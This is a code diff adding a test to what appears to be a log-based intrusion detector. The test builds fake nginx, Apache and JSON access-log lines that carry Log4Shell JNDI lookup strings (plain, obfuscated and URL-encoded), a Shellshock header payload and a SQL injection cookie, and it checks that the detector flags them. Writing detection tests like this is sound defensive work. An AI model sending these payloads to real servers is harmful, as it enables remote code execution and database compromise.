@@ -88,3 +88,34 @@ def test_ordinary_portal_traffic_raises_nothing(tmp_path: Path) -> None:
         ],
     )
     assert found == {}
+
+
+def test_injection_in_any_logged_header_is_caught(tmp_path: Path) -> None:
+    """Headers the log format carries (nginx key=value, Apache's bare quoted values, JSON access logs)."""
+    benign = "Mozilla/5.0 (X11; Linux x86_64)"
+    json_line = json.dumps(
+        {
+            "time_local": "01/Jul/2026:10:00:05 +0700",
+            "remote_addr": "198.51.100.24",
+            "request": "GET /tra-cuu HTTP/1.1",
+            "status": "200",
+            "body_bytes_sent": "10",
+            "http_user_agent": benign,
+            "http_cookie": "sid=1%27%20or%201=1--",
+        }
+    )
+    found = run(
+        tmp_path,
+        [
+            line("198.51.100.21", "GET / HTTP/1.1", 200, sec=1) + ' xff="${jndi:ldap://198.51.100.21:1389/a}"',
+            line("198.51.100.22", "GET /api/ho-so HTTP/1.1", 200, sec=2) + ' api="${${lower:j}ndi:dns://x.example/a}"',
+            line("198.51.100.23", "GET /cgi-bin/x HTTP/1.1", 404, sec=3) + ' http_x_custom="() { :;}; /bin/id"',
+            line("198.51.100.25", "GET / HTTP/1.1", 200, sec=4) + ' "-" "%24%7Bjndi:ldap://x.example/a%7D"',
+            json_line,
+            line("198.51.100.26", "GET / HTTP/1.1", 200, sec=6) + ' xff="203.0.113.9, 10.0.0.5" cookie="lang=vi"',
+        ],
+    )
+    log4shell = "JNDI lookup injection (Log4Shell) in a request line or header"
+    assert found.get(log4shell) == {"198.51.100.21", "198.51.100.22", "198.51.100.25"}
+    assert found.get("Injection payload in a request header (Shellshock, SQL)") == {"198.51.100.23", "198.51.100.24"}
+    assert not any("198.51.100.26" in ips for ips in found.values())
